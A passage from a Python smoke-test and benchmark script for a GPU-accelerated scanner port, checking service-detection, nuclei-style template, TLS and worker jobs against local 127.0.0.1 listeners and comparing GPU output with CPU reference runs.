            match_s[0] += time.perf_counter() - tm

    eng.match = timed_match
    fresh_classify()  # warm
    torch.cuda.synchronize()
    st0 = dict(eng.stats.__dict__)
    stage0, match0 = dict(stage), match_s[0]
    per_call = []
    gc0 = [g["collections"] for g in gc.get_stats()]
    while len(per_call) < 3 or sum(per_call) < MATCH_WINDOW_S * 1e3:
        clf._classify_memo.clear()
        eng.clear_content_memos()
        tc = time.perf_counter()
        infos = clf.classify(rows, sent)
        per_call.append((time.perf_counter() - tc) * 1e3)
    gc_counts = [g["collections"] - n for g, n in zip(gc.get_stats(), gc0)]
    st = {k: v - st0[k] for k, v in eng.stats.__dict__.items()}
    eng.match = engine_match
    eng.device.collect = collect
    reps, seconds, batches = len(per_call), sum(per_call) / 1e3, st["batches"]
    ms = {"encode": st["encode_seconds"] / batches * 1e3}
    ms.update({k[:-2]: (stage[k] - stage0[k]) / batches * 1e3 for k in stage})
    ms["host_resolution"] = st["host_confirm_seconds"] / batches * 1e3
    ms.update({k: st[f"{k}_seconds"] / batches * 1e3 for k in ("unc", "ext", "insert", "fixup")})
    engine_ms = (match_s[0] - match0) / batches * 1e3
    outside = {"engine_rest": engine_ms - sum(v for k, v in ms.items()
                                              if k not in ("unc", "ext", "insert", "fixup")),
               # the classifier's own host work: the regex veto of each
               # row's candidates in probe order and the version fields
               "classify_walk": seconds / batches * 1e3 - engine_ms}

    trace = profile_call(fresh_classify, "service_call", SERVICE_SPANS, ENCODE_SPAN)
    trace_kernels = trace.pop("kernels_ms")
    ours = {k: v for k, v in trace_kernels.items() if k.startswith(MATCH_KERNELS)}

    # every recall banner against the recall file (test_service_detect's rule)
    for i, r in enumerate(recall):
        got = (infos[i].service, infos[i].product, infos[i].version)
        if got != (r["service"], r["product"], r["version"]):
            raise AssertionError(f"recall row {i}: {infos[i].line()} is not {r}")
    # the engine's template ids against the oracle
    step = len(recall) // (SERVICE_ORACLE_ROWS // 2)
    sample = list(range(0, len(recall), step))[: SERVICE_ORACLE_ROWS // 2]
    sample += list(range(len(recall), JOB_ROWS))[: SERVICE_ORACLE_ROWS // 2]
    eng.clear_content_memos()
    got = eng.match([rows[i] for i in sample])
    for i, res in zip(sample, got):
        want = [t.id for t in eng.templates if cpu_ref.match_template(t, rows[i]).matched]
        if res.template_ids != want:
            raise AssertionError(f"service row {i}: template ids differ from the oracle")

    # the main path's launches, counted from zero over one fresh call
    kernels.reset_launches()
    with kernels.record_calls() as calls:
        fresh_classify()
    launches = dict(kernels.LAUNCHES)
    missing = [k for k in SERVICE_KERNELS if launches[k] < 1]
    if missing or launches["match_md5"]:
        raise AssertionError(f"service launches {launches}")
    max_err = check_calls(calls)
    clock_hz = sm_clock_hz()
    timing = kernel_timing(calls, SERVICE_KERNELS, clock_hz)
    emit({
        "phase": "service", "db": str(SERVICE_DB.relative_to(REPO)),
        "cold_build_s": cold_s, "warm_build_s": warm_s, "shape": shape,
        "first_batch": first_batch, "rows": JOB_ROWS, "recall_rows": len(recall),
        "batch_rows": eng.batch_rows, "max_body": eng.max_body, "reps": reps,
        "banners_per_s": reps * JOB_ROWS / seconds,
        "banners_per_s_median_call": JOB_ROWS / float(np.median(per_call)) * 1e3,
        "ms_per_call": per_call, "gc_collections": gc_counts,
        "batches_per_call": batches / reps, "ms_per_batch": seconds / batches * 1e3,
        "ms_by_stage": ms, "ms_outside_stages": outside,
        "device_rows_per_batch": st["unique_rows"] / batches,
        "confirms_per_batch": st["host_confirm_pairs"] / batches,
        "walk_batched_pairs_per_batch": st["walk_batched_pairs"] / batches,
        "overflow_rows_per_batch": st["overflow_rows"] / batches,
        "trace": {**trace, "match_kernels_ms": ours}, "recall_identical": len(recall),
        "oracle_sample_rows": len(sample), "launches": launches, "exact": True,
        "timing": timing, "sm_clock_hz": clock_hz, "card": smi,
    })
    return timing, launches, max_err


def worker_job(proc, module: str, blob: bytes) -> tuple:
    """One job of ``module`` over ``blob`` through ``proc`` (its client
    pointed at a fresh stand-in server), which must end ``complete`` →
    (output, seconds, the job's perf fields)."""
    from swarm_tpu_torch.worker.runtime import ServerClient

    stub = StubServer(blob, module=module)
    try:
        proc.client = ServerClient(stub.url, API_KEY)
        t0 = time.perf_counter()
        proc.process_jobs()
        seconds = time.perf_counter() - t0
    finally:
        stub.close()
    want = ["starting", "downloading", "executing", "uploading", "complete"]
    if stub.statuses != want:
        raise AssertionError(f"{module} job statuses {stub.statuses}")
    return stub.output, seconds, stub.perf


def phase_service_worker(smi: str) -> dict:
    """A ``servicescan`` job (the module's own settings, the production
    DB as its ``probes_db``) through the port's worker on the card
    against local banner listeners of the recall set's protocols: the
    nmap-style report must be byte-identical to the same job run with
    ``device="cpu"``, and the service kernels launched."""
    import tempfile

    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    use_db_cache("service")  # the service phase's: the worker's build is warm
    recall = json.loads(SERVICE_RECALL.read_text())
    replies = service_fleet_replies(recall, limit=40) + [
        (b"HTTP/1.1 200 OK\r\nServer: nginx/1.18.0\r\n\r\n<html>", False),
        (b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.1\r\n", True),
    ]
    spec = json.loads((REPO / "modules" / "servicescan.json").read_text())
    spec["probes_db"] = str(SERVICE_DB)
    spec["probe"] = {**spec["probe"], "resolvers": ["127.0.0.1"], "read_timeout_ms": 1000}
    with BannerFleet(replies) as fleet, tempfile.TemporaryDirectory() as modules:
        (Path(modules) / "servicescan.json").write_text(json.dumps(spec))
        blob = ("\n".join(fleet.targets + ["127.0.0.1:1"]) + "\n").encode()
        cfg = WorkerConfig(api_key=API_KEY, worker_id="chip-smoke", modules_dir=modules,
                           max_jobs=1, poll_interval_idle_s=0.05, poll_interval_busy_s=0.0)
        proc = JobProcessor(cfg, device="cuda")
        kernels.reset_launches()
        output, seconds, _perf = worker_job(proc, "servicescan", blob)
        launches = dict(kernels.LAUNCHES)
        del proc
        cpu = JobProcessor(cfg, device="cpu")
        twin = cpu._execute_service(cpu.registry.load("servicescan"), blob)
    if output != twin:
        raise AssertionError("servicescan: cuda output differs from the CPU run")
    text = output.decode()
    lines = text.splitlines()
    open_ports = sum(" open " in ln for ln in lines)
    named = sum(" open " in ln and " unknown" not in ln for ln in lines)
    if open_ports != len(replies) or named < len(replies) // 2:
        raise AssertionError(f"servicescan: {open_ports} open ports, {named} named, "
                             f"for {len(replies)} listeners")
    missing = [k for k in SERVICE_KERNELS if launches[k] < 1]
    if missing:
        raise AssertionError(f"servicescan job: no launch of {missing}")
    emit({"phase": "service_worker", "status": "complete", "targets": len(fleet.targets) + 1,
          "open_ports": open_ports, "named_services": named,
          "seconds": seconds, "launches": launches, "cpu_twin_identical": True,
          "report_bytes": len(output), "card": smi})
    return launches


#: rows of the tpu_forms_worker jsonl jobs and targets of its targets job
FORMS_ROWS, FORMS_TARGETS = 256, 64


def phase_tpu_forms_worker(smi: str) -> dict:
    """The ``tpu`` job's other forms through the port's worker on the
    card, over ``synthetic_corpus(0)`` plus workflows that gate on it
    (:func:`workflow_docs`): (a) ``targets`` input against local HTTP
    listeners, JSONL output; (b) ``jsonl`` input, ``nuclei`` output;
    (c) ``jsonl`` input, JSONL output; every job's rows trigger the
    workflows (:func:`workflow_rows`), so each writes workflow lines.
    Each output must be byte-identical to its ``device="cpu"`` twin;
    the verdict kernel writes m_value (the layout has gates) and rows
    carry non-empty gate planes; the jobs' kernel calls equal their
    plain versions. The corpus compile goes through ``dbcache``: the
    build the first job makes (cold) and a second process's (warm) are
    timed."""
    import tempfile

    import yaml

    from swarm_tpu_torch.ops import kernels
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    use_db_cache("forms")
    docs, plants = synthetic_corpus(0)
    wf_docs = workflow_docs(docs, plants)
    rows = workflow_rows(FORMS_ROWS, plants)
    targets_rows = workflow_rows(FORMS_TARGETS, plants, seed=17)
    with tempfile.TemporaryDirectory() as tmp, \
            BannerFleet([(http_reply(r), False) for r in targets_rows]) as fleet:
        corpus, modules = Path(tmp) / "corpus", Path(tmp) / "modules"
        corpus.mkdir()
        modules.mkdir()
        for doc in docs + wf_docs:
            (corpus / f"{doc['id']}.yaml").write_text(yaml.safe_dump(doc))
        probe = {"type": "http", "resolvers": ["127.0.0.1"], "read_timeout_ms": 2000}
        specs = {
            "fp_targets": {"backend": "tpu", "templates": str(corpus), "input_format": "targets",
                           "probe": probe, "wave_targets": 32},
            "fp_nuclei": {"backend": "tpu", "templates": str(corpus), "output_format": "nuclei"},
            "fp_jsonl": {"backend": "tpu", "templates": str(corpus)},
        }
        for name, spec in specs.items():
            (modules / f"{name}.json").write_text(json.dumps(spec))
        # the jsonl job's rows are other content: the memo would serve
        # the nuclei job's rows without the card
        blobs = {"fp_targets": ("\n".join(fleet.targets) + "\n").encode(),
                 "fp_nuclei": jsonl_rows(rows),
                 "fp_jsonl": jsonl_rows(workflow_rows(FORMS_ROWS, plants, seed=19))}
        cfg = WorkerConfig(api_key=API_KEY, worker_id="chip-smoke", modules_dir=str(modules),
                           max_jobs=1, poll_interval_idle_s=0.05, poll_interval_busy_s=0.0)
        proc = JobProcessor(cfg, device="cuda")
        t0 = time.perf_counter()
        eng = proc.engine_for(str(corpus))  # the build the first job makes
        first_build_s = time.perf_counter() - t0
        t0 = time.perf_counter()
        JobProcessor(cfg, device="cuda").engine_for(str(corpus))
        second_build_s = time.perf_counter() - t0
        outputs, seconds = {}, {}
        kernels.reset_launches()
        with kernels.record_calls() as calls:
            for name, blob in blobs.items():
                outputs[name], seconds[name], _perf = worker_job(proc, name, blob)
        launches = dict(kernels.LAUNCHES)
        layout = eng.device._ensure_layout()[1]["verdict"]
        eng.clear_content_memos()
        planes = [r.wf for r in eng.match(port_rows(rows))]
        cpu = JobProcessor(cfg, device="cpu")
        twins = {name: cpu._execute_tpu(cpu.registry.load(name), blob)
                 for name, blob in blobs.items()}
    max_err = check_calls(calls)
    for name in blobs:
        if outputs[name] != twins[name]:
            raise AssertionError(f"{name}: cuda output differs from the CPU run")
    wf_lines = {
        "fp_targets": outputs["fp_targets"].decode().count('"workflow": '),
        "fp_jsonl": outputs["fp_jsonl"].decode().count('"workflow": '),
        "fp_nuclei": outputs["fp_nuclei"].decode().count("] [workflow] "),
    }
    if min(wf_lines.values()) < 1:
        raise AssertionError(f"workflow lines {wf_lines}")
    nonempty = sum(p is not None and any(np.asarray(x).any() for x in p) for p in planes)
    if not layout.has_gates or not nonempty:
        raise AssertionError(f"gates {layout.has_gates}, rows with gate planes {nonempty}")
    missing = [k for k in MATCH_KERNELS if launches[k] < 1]
    if missing:
        raise AssertionError(f"tpu forms jobs: no launch of {missing}")
    emit({"phase": "tpu_forms_worker", "templates": len(docs) + len(wf_docs),
          "workflows": sum("workflows" in d for d in wf_docs),
          "first_build_s": first_build_s, "second_build_s": second_build_s,
          "jobs": {name: {"lines": len(outputs[name].splitlines()), "seconds": seconds[name],
                          "workflow_lines": wf_lines[name]} for name in blobs},
          "cpu_twins_identical": True, "m_value_written": layout.has_gates,
          "rows_with_gate_planes": nonempty, "rows": len(rows), "launches": launches,
          "max_abs_err": max_err, "card": smi})
    return launches


# ---------------------------------------------------------------------------
# The active, file and command backends


#: the active job's path-routing HTTP listeners (each answers every
#: request of the plan), and the (listener, path) pairs held to the oracle
ACTIVE_LISTENERS, ACTIVE_ORACLE_PAIRS = 8, 96
#: files of the file job
FILE_JOB_FILES = 2048


def make_cert(directory: Path) -> tuple:
    """A self-signed certificate (CN ``selfie.test``, two DNS names) and
    its key as PEM files in ``directory``, made with ``cryptography``
    (the reference tests' certificate). → (cert path, key path)."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "selfie.test")])
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=365))
            .add_extension(x509.SubjectAlternativeName(
                [x509.DNSName("selfie.test"), x509.DNSName("alt.test")]), critical=False)
            .sign(key, hashes.SHA256()))
    cert_pem, key_pem = directory / "cert.pem", directory / "key.pem"
    cert_pem.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_pem.write_bytes(key.private_bytes(serialization.Encoding.PEM,
                                          serialization.PrivateFormat.TraditionalOpenSSL,
                                          serialization.NoEncryption()))
    return cert_pem, key_pem


class TlsListener:
    """A local TLS server that completes handshakes and closes; anything
    that is not a handshake it drops. ``target`` is its
    ``127.0.0.1:<port>`` line."""

    def __init__(self, cert_pem: Path, key_pem: Path):
        import ssl

        self._ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._ctx.load_cert_chain(str(cert_pem), str(key_pem))
        self._sock = socket.socket()
        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._sock.bind(("127.0.0.1", 0))
        self._sock.listen(1024)
        self._sock.settimeout(0.1)
        self.target = f"127.0.0.1:{self._sock.getsockname()[1]}"
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        import ssl

        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            try:
                conn.settimeout(5.0)
                self._ctx.wrap_socket(conn, server_side=True).close()
            except (ssl.SSLError, OSError):
                conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self._sock.close()


#: the ssl template the active corpus carries when ``cryptography`` imports
SSL_DOC = {
    "id": "chip-ssl-self-signed", "info": {"name": "self-signed", "severity": "low"},
    "ssl": [{"address": "{{Host}}:{{Port}}",
             "matchers": [{"type": "dsl", "name": "self-signed",
                           "dsl": ["common_name == issuer_common_name"]}],
             "extractors": [
                 {"type": "json", "name": "common_name", "internal": True,
                  "json": [".common_name[]"]},
                 {"type": "json", "name": "issuer_common_name", "internal": True,
                  "json": [".issuer_common_name[]"]},
                 {"type": "json", "json": [".tls_version"]}]}],
}


class stage_clock:
    """Seconds of an active job's stages, by wrapping what the worker
    and the scanner call: the corpus's engine (``engine_for``: built,
    or loaded from the compile cache), the scanner's build (the plan),
    the liveness pre-pass, the waves (``_run_wave``) and within them
    ``tcp_scan`` (the liveness pass's own excluded) and
    ``MatchEngine.match`` from ``_attribute`` (its rows and seconds; the
    gate re-confirm's own match excluded), the workflow pass's gate
    re-confirm and ``evaluate_hits``, and the ssl pass. ``wave_host_s``
    is the waves' time outside those two: the requests' bytes, the
    responses' parse, the attribution."""

    def __enter__(self):
        from swarm_tpu_torch.ops.engine import MatchEngine
        from swarm_tpu_torch.ops.workflows import WorkflowRunner
        from swarm_tpu_torch.worker import active, sslscan
        from swarm_tpu_torch.worker.runtime import JobProcessor

        self.s = {"engine_s": 0.0, "scanner_build_s": 0.0, "liveness_s": 0.0,
                  "waves_s": 0.0, "tcp_scan_s": 0.0, "match_s": 0.0, "match_rows": 0,
                  "workflow_s": 0.0, "ssl_s": 0.0}
        self._saved = []
        gate = threading.local()

        def timed(key, fn, on_call=None):
            def run(*args, **kw):
                t0 = time.perf_counter()
                try:
                    return fn(*args, **kw)
                finally:
                    self.s[key] += time.perf_counter() - t0
                    if on_call is not None:
                        on_call(args)
            return run

        def gate_confirm(fn):
            def run(*args, **kw):
                gate.on = True
                try:
                    return fn(*args, **kw)
                finally:
                    gate.on = False
            return timed("workflow_s", run)

        def attribute_match(fn):
            counted = timed("match_s", fn, lambda args: self.s.__setitem__(
                "match_rows", self.s["match_rows"] + len(args[1])))

            def run(*args, **kw):
                return (fn if getattr(gate, "on", False) else counted)(*args, **kw)
            return run

        for owner, name, wrap in (
            (JobProcessor, "engine_for", lambda fn: timed("engine_s", fn)),
            (active.ActiveScanner, "__init__", lambda fn: timed("scanner_build_s", fn)),
            (active.ActiveScanner, "_run_wave", lambda fn: timed("waves_s", fn)),
            (active.ActiveScanner, "_liveness", lambda fn: timed("liveness_s", fn)),
            (active.scanio, "tcp_scan", lambda fn: timed("tcp_scan_s", fn)),
            (MatchEngine, "match", attribute_match),
            (WorkflowRunner, "resolve_gate_names", gate_confirm),
            (WorkflowRunner, "evaluate_hits", lambda fn: timed("workflow_s", fn)),
            (sslscan.SslScanner, "scan", lambda fn: timed("ssl_s", fn)),
        ):
            fn = getattr(owner, name)
            self._saved.append((owner, name, fn))
            setattr(owner, name, wrap(fn))
        return self.s

    def __exit__(self, *exc):
        for owner, name, fn in reversed(self._saved):
            setattr(owner, name, fn)
        self.s["tcp_scan_s"] -= self.s["liveness_s"]
        self.s["wave_host_s"] = self.s["waves_s"] - self.s["tcp_scan_s"] - self.s["match_s"]


def _lines_of(text: str, target: str) -> list:
    """The output lines of one ``127.0.0.1:<port>`` target."""
    pat = re.compile(re.escape(target) + r"(?![0-9])")
    return [ln for ln in text.splitlines() if not ln.startswith("#") and pat.search(ln)]


def phase_active_worker(smi: str) -> dict:
    """The worker's ``active`` backend (nuclei's execution mode) at the
    full width of the match corpus: :func:`active_corpus` (3,989
    templates, about 3,200 distinct requests) plus the 4 workflows of
    :func:`workflow_docs`, against ``ACTIVE_LISTENERS`` path-routing
    listeners (:func:`active_replies`), and, when ``cryptography``
    imports, one TLS listener and an ssl template. One ``nuclei``-shaped
    job through the stand-in server, pipeline off then on, each on a
    worker of its own (a fresh engine, nothing known), then once more
    with the pipeline off under the profiler (the card's busy and idle
    time over the job). All must end ``complete`` with byte-identical
    output; the first listener's lines
    byte-identical to the same job on the CPU over that listener alone;
    a sample of (listener, path) pairs equal to the oracle on the
    listener's response; phase A, the verify, the regex scan and the
    verdict kernels launched; every call the off arm made equal to its
    plain version. → launches of the off arm."""
    import tempfile

    from swarm_tpu_torch.fingerprints.nuclei import parse_template
    from swarm_tpu_torch.fingerprints.model import Response
    from swarm_tpu_torch.ops import cpu_ref, kernels
    from swarm_tpu_torch.ops.engine import MatchEngine
    from swarm_tpu_torch.worker import formats
    from swarm_tpu_torch.worker.executor import parse_http_response
    from swarm_tpu_torch.worker.runtime import JobProcessor, WorkerConfig

    use_db_cache("active")
    docs, plants = active_corpus(0)
    docs = docs + workflow_docs(docs, plants)
    try:
        import cryptography  # noqa: F401

        ssl_case = True
        docs.append(SSL_DOC)
    except ImportError:
        ssl_case = False
    templates = [parse_template(d) for d in docs]
    reply = active_replies(docs, plants, ACTIVE_LISTENERS)
    tls = None
    with tempfile.TemporaryDirectory() as tmp, PathFleet(ACTIVE_LISTENERS, reply) as fleet:
        corpus, modules = Path(tmp) / "corpus", Path(tmp) / "modules"
        corpus.mkdir()
        modules.mkdir()
        try:
            import yaml

            for doc in docs:
                (corpus / f"{doc['id']}.yaml").write_text(yaml.safe_dump(doc))
            route = "yaml"
        except ImportError:
            route = "engine_cache"
        spec = json.loads((REPO / "modules" / "nuclei.json").read_text())
        spec["templates"] = str(corpus)
        spec["probe"] = {**spec["probe"], "resolvers": ["127.0.0.1"], "read_timeout_ms": 2500}
        (modules / "nuclei.json").write_text(json.dumps(spec))
        targets = list(fleet.targets)
        if ssl_case:
            tls = TlsListener(*make_cert(Path(tmp)))
            targets.append(tls.target)
        blob = ("\n".join(targets) + "\n").encode()
        outputs, perfs, seconds, stages, eng_stats, launches = {}, {}, {}, {}, {}, {}
        try:
            for mode in ("off", "on"):
                cfg = WorkerConfig(api_key=API_KEY, worker_id="chip-smoke",
                                   modules_dir=str(modules), max_jobs=1, pipeline=mode,
                                   poll_interval_idle_s=0.05, poll_interval_busy_s=0.0)
                proc = JobProcessor(cfg, device="cuda")
                if route == "engine_cache":
                    proc.engines[str(corpus)] = MatchEngine(templates, device="cuda",
                                                            pipeline=mode)
                kernels.reset_launches()
                with kernels.record_calls() as calls, stage_clock() as clock:
                    outputs[mode], seconds[mode], perfs[mode] = worker_job(
                        proc, "nuclei", blob)
                launches[mode] = dict(kernels.LAUNCHES)
                stages[mode] = clock
                st = proc.engines[str(corpus)].stats
                eng_stats[mode] = {"batches": st.batches, "device_rows": st.unique_rows,
                                   "memo_hits": st.memo_hits, "rows": st.rows}
                if mode == "off":
                    max_err = check_calls(calls)
                del calls, proc
            # a third job, pipeline off, on a fresh worker under the profiler:
            # the card's busy and idle time over the whole job
            cfg = WorkerConfig(api_key=API_KEY, worker_id="chip-smoke", modules_dir=str(modules),
                               max_jobs=1, poll_interval_idle_s=0.05, poll_interval_busy_s=0.0)
            proc = JobProcessor(cfg, device="cuda")
            if route == "engine_cache":
                proc.engines[str(corpus)] = MatchEngine(templates, device="cuda")
            traced_out = []
            trace = profile_call(lambda: traced_out.append(worker_job(proc, "nuclei", blob)[0]),
                                 "active.job", ())
            del proc
            # the CPU twin over the first listener alone
            cfg = WorkerConfig(api_key=API_KEY, worker_id="chip-smoke", modules_dir=str(modules),
                               max_jobs=1)
            cpu = JobProcessor(cfg, device="cpu")
            if route == "engine_cache":
                cpu.engines[str(corpus)] = MatchEngine(templates, device="cpu")
            t0 = time.perf_counter()
            twin = cpu._execute_active(cpu.registry.load("nuclei"),
                                       (fleet.targets[0] + "\n").encode())
            twin_s = time.perf_counter() - t0
        finally:
            if tls is not None:
                tls.close()

    if not outputs["off"] == outputs["on"] == traced_out[0]:
        raise AssertionError("active: pipeline on, off and traced outputs differ")
    text = outputs["off"].decode()
    twin_text = twin.decode()
    mine = _lines_of(text, fleet.targets[0])
    if mine != [ln for ln in twin_text.splitlines() if not ln.startswith("#")]:
        raise AssertionError("active: the first listener's lines differ from the CPU run")
    if [ln for ln in text.splitlines() if ln.startswith("#")] != [
            ln for ln in twin_text.splitlines() if ln.startswith("#")]:
        raise AssertionError("active: scope lines differ from the CPU run")
    # a sample of (listener, path) pairs against the oracle
    sev, _proto = formats.severity_index(templates)
    owners: dict = {}
    for t in templates:
        if t.protocol == "http":
            owners.setdefault(docs_path(t), []).append(t)
    hit_pairs = []
    for ln in text.splitlines():
        m = re.match(r"\[[^\]]+\] \[http\] \[[^\]]+\] http://127\.0\.0\.1:(\d+)(\S*)", ln)
        if m and m.group(2) in owners:
            hit_pairs.append((fleet.targets.index(f"127.0.0.1:{m.group(1)}"), m.group(2)))
    rng = np.random.default_rng(3)
    paths = sorted(owners)
    sample = set(hit_pairs[:: max(1, len(hit_pairs) // (ACTIVE_ORACLE_PAIRS // 2))])
    sample |= {(int(rng.integers(0, ACTIVE_LISTENERS)), paths[int(rng.integers(0, len(paths)))])
               for _ in range(ACTIVE_ORACLE_PAIRS // 2)}
    for k, path in sorted(sample):
        port = int(fleet.targets[k].split(":")[1])
        status, header, body = parse_http_response(reply(k, "GET", path))
        row = Response(host="127.0.0.1", port=port, status=status, header=header, body=body)
        url = f"http://127.0.0.1:{port}{path}"
        want = set()
        for t in owners[path]:
            res = cpu_ref.match_template(t, row)
            if res.matched:
                extra = " [" + ",".join(res.extractions) + "]" if res.extractions else ""
                want.add(f"[{t.id}] [http] [{sev.get(t.id, 'info')}] {url}{extra}")
        got = {ln for ln in text.splitlines()
               if re.search(re.escape(url) + r"( \[|$)", ln) and "] [http] [" in ln}
        if got != want:
            raise AssertionError(f"active: listener {k} path {path}: {sorted(got)} != {sorted(want)}")
    ssl_lines = [ln for ln in text.splitlines() if "] [ssl] [" in ln]
    ssl_want = re.escape(f"[chip-ssl-self-signed] [ssl] [low] {tls.target}") + r" \[tls1[23]\]" \
        if ssl_case else None
    if ssl_case and (len(ssl_lines) != 1 or not re.fullmatch(ssl_want, ssl_lines[0])):
        raise AssertionError(f"active: ssl lines {ssl_lines}")
    wf_lines = sum("] [workflow] [" in ln for ln in text.splitlines())
    if wf_lines < 1 or perfs["off"]["workflow_hits"] != wf_lines:
        raise AssertionError(f"active: {wf_lines} workflow lines, perf {perfs['off']}")
    need = ("match_phase_a", "match_verify", "match_regex_scan", "match_verdicts")
    missing = [k for k in need if min(launches["off"][k], launches["on"][k]) < 1]
    if missing:
        raise AssertionError(f"active job: no launch of {missing}")
    sched = perfs["on"].get("sched")
    if perfs["on"].get("pipeline") != "on" or not sched:
        raise AssertionError(f"active job on: perf {perfs['on']}")
    emit({
        "phase": "active_worker", "status": "complete", "route": route,
        "templates": len(templates), "requests_planned": ACTIVE_REQUESTS,
        "listeners": ACTIVE_LISTENERS, "ssl_templates_run": ssl_case,
        "lines": len(text.splitlines()), "workflow_lines": wf_lines, "ssl_lines": len(ssl_lines),
        "perf_fields": {k: perfs["off"][k] for k in ("targets", "live_targets", "rows_probed",
                                                      "workflow_hits", "hits")},
        "seconds": seconds, "stages": stages, "engine": eng_stats,
        "match_rows_per_s": {m: stages[m]["match_rows"] / stages[m]["match_s"]
                             for m in stages if stages[m]["match_s"] > 0},
        "sched": sched, "launches": launches, "max_abs_err": max_err,
        "trace": {k: trace[k] for k in ("call_ms", "device_busy_ms", "idle_share",
                                        "kernel_launches", "kernels_ms", "copies_ms")},
        "cpu_twin_identical_lines": len(mine), "cpu_twin_s": twin_s,
        "oracle_pairs": len(sample), "card": smi,
    })
    return launches["off"]


class oob_clock:
    """Seconds of an OOB and headless job's stages, by wrapping what the
    scanner calls: liveness (``_liveness``), the waves (``_run_wave``),
    the headless round (``HeadlessScanner._run_round``, on its
    coordinator thread; its targets and hits kept) and its join (the
    round future's ``result``), the drain's wait (from the join, or the
    last wave, to the first ``OOBListener.poll``) and its match (the
    ``_attribute`` call after it: rows, the engine's device rows and
    batches, kernel calls ``calls[first:last]`` of the recorded list,
    launches, and each ``DeviceDB.dispatch``'s rows and ``oobp`` /
    ``oobr`` widths). The scanner's stats are kept too."""

    def __init__(self, calls: list):
        self.calls = calls

    def __enter__(self):
        from swarm_tpu_torch.ops import kernels
        from swarm_tpu_torch.ops.match import DeviceDB
        from swarm_tpu_torch.worker import active, headless, oob

        s = self.s = {"liveness_s": 0.0, "waves_s": 0.0, "headless_round_s": 0.0,
                      "headless_join_s": 0.0, "drain_wait_s": 0.0, "drain_match_s": 0.0}
        self.drain = {"rows": 0, "device_rows": 0, "engine_batches": 0, "batches": [],
                      "calls": [0, 0], "launches": {}}
        self.round = None
        self.stats = None
        state = {"mark": None, "polled": False, "draining": False}
        self._saved = []

        def timed(key, fn):
            def run(*args, **kw):
                t0 = time.perf_counter()
                try:
                    return fn(*args, **kw)
                finally:
                    s[key] += time.perf_counter() - t0
                    state["mark"] = time.perf_counter()
            return run

        def run_round(fn):
            def run(sc, targets):
                t0 = time.perf_counter()
                hits = fn(sc, targets)
                s["headless_round_s"] += time.perf_counter() - t0
                self.round = (sc, list(targets), hits)
                return hits
            return run

        def run_async(fn):
            def run(sc, targets):
                fut = fn(sc, targets)
                result = fut.result

                def joined(*args, **kw):
                    t0 = time.perf_counter()
                    try:
                        return result(*args, **kw)
                    finally:
                        s["headless_join_s"] += time.perf_counter() - t0
                        state["mark"] = time.perf_counter()
                fut.result = joined
                return fut
            return run

        def poll(fn):
            def run(lst, token):
                if not state["polled"]:
                    state["polled"] = True
                    s["drain_wait_s"] += time.perf_counter() - state["mark"]
                return fn(lst, token)
            return run

        def attribute(fn):
            def run(sc, rows, meta, owners):
                if not state["polled"] or state["draining"]:
                    return fn(sc, rows, meta, owners)
                st = sc.engine.stats
                before = (st.unique_rows, st.batches, dict(kernels.LAUNCHES), len(self.calls))
                state["draining"] = True
                t0 = time.perf_counter()
                try:
                    return fn(sc, rows, meta, owners)
                finally:
                    s["drain_match_s"] += time.perf_counter() - t0
                    state["draining"] = False
                    self.drain.update(
                        rows=len(rows), device_rows=st.unique_rows - before[0],
                        engine_batches=st.batches - before[1], calls=[before[3], len(self.calls)],
                        launches={k: v - before[2][k] for k, v in kernels.LAUNCHES.items()})
            return run

        def dispatch(fn):
            def run(db, streams, lengths, status):
                if state["draining"]:
                    self.drain["batches"].append({
                        "rows": int(streams["body"].shape[0]),
                        "oobp_width": int(streams["oobp"].shape[1]),
                        "oobr_width": int(streams["oobr"].shape[1])})
                return fn(db, streams, lengths, status)
            return run

        def scan_run(fn):
            def run(*args, **kw):
                hits, stats = fn(*args, **kw)
                self.stats = stats
                return hits, stats
            return run

        for owner, name, wrap in (
            (active.ActiveScanner, "_liveness", lambda fn: timed("liveness_s", fn)),
            (active.ActiveScanner, "_run_wave", lambda fn: timed("waves_s", fn)),
            (active.ActiveScanner, "_attribute", attribute),
            (active.ActiveScanner, "run", scan_run),
            (headless.HeadlessScanner, "_run_round", run_round),
            (headless.HeadlessScanner, "run_async", run_async),
            (oob.OOBListener, "poll", poll),
            (DeviceDB, "dispatch", dispatch),
        ):
            fn = getattr(owner, name)
            self._saved.append((owner, name, fn))
            setattr(owner, name, wrap(fn))
        return self

    def __exit__(self, *exc):
        for owner, name, fn in reversed(self._saved):
            setattr(owner, name, fn)


def _oob_fired(text: str, listeners: list) -> set:
    """(listener index, template id) of the OOB lines of ``text``."""
    fired = set()
    for m in re.finditer(r"^\[(chip-oob-\d{3}-(?:http|dns))\] \[http\] \[\w+\] "
                         r"http://127\.0\.0\.1:(\d+)/", text, re.M):
        fired.add((listeners.index(f"127.0.0.1:{m.group(2)}"), m.group(1)))
    return fired


def phase_oob_headless_worker(smi: str) -> dict:
    """The ``active`` backend's OOB listener and headless execution on
    the card: a ``nuclei-oob``-shaped job (``modules/nuclei-oob.json``:
    its listener on the DNS port the fleet is told, the domain form
    ``OOB_DOMAIN``, ``poll_s`` at its 3.0) over
    :func:`oob_headless_corpus` (3,989 templates, 144 of them OOB, plus
    the headless templates) and the 4 workflows, against
